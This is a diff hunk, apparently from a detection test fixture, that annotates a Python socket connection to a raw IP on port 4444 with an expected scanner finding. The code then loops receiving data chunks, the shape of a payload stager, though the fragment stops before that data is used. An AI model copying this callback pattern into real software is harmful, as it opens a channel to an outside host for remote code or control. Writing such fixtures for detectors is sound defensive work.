@@ -4,7 +4,7 @@
 import socket
 
 s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
-s.connect(("45.61.139.12", 4444))
+s.connect(("45.61.139.12", 4444))  # expect: raw-ip-url
 chunks = []
 while True:
     part = s.recv(4096)
